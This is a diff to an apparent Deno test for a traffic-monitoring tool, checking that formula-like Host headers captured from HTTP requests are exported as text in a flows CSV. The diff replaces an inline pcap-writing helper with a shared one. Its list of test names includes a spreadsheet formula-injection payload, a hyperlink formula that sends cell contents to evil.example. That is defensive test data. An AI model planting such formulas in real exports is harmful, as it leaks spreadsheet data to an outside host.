@@ -3,8 +3,7 @@
 
 import assert from "node:assert/strict";
 import { startServer } from "./helpers/serve.ts";
-import { eth, ipv4, tcp } from "./helpers/frames.ts";
-import { hex, PcapWriter } from "./helpers/pcap_file.ts";
+import { writeNamedHttp } from "./helpers/named_http.ts";
 
 /** Host headers a client on the network chose, each a formula to a spreadsheet but the last. */
 const NAMES = [
@@ -15,22 +14,6 @@ const NAMES = [
   '=hyperlink("http://evil.example/?"&a1,"x")',
   "plain.example",
 ];
-
-/** One HTTP request per name, each from its own flow (10.0.0.1 to 10.0.1.N, port 80). */
-function writeCapture(path: string): void {
-  const writer = new PcapWriter(path, 1);
-  NAMES.forEach((name, i) => {
-    const request = new TextEncoder().encode(`GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
-    const payload = Array.from(request, (b) => b.toString(16).padStart(2, "0")).join("");
-    const dst = `0a0001${(i + 1).toString(16).padStart(2, "0")}`;
-    writer.write(
-      1_700_000_000 + i,
-      0,
-      hex(eth("0800", ipv4(6, "0a000001", dst, tcp(40000 + i, 80, payload)))),
-    );
-  });
-  writer.close();
-}
 
 /** The cells of one RFC 4180 line (quoted cells unquoted). */
 function cells(line: string): string[] {
@@ -46,7 +29,7 @@ function cells(line: string): string[] {
 Deno.test("names learnt from traffic that start a formula are text in the flows CSV", async () => {
   const dir = await Deno.makeTempDir({ prefix: "netwatch-csv-" });
   const file = `${dir}/formulas.pcap`;
-  writeCapture(file);
+  writeNamedHttp(file, NAMES);
   const server = await startServer(file);
   try {
     const json = await (await fetch(`${server.base}/api/v1/flows?limit=100`)).json();
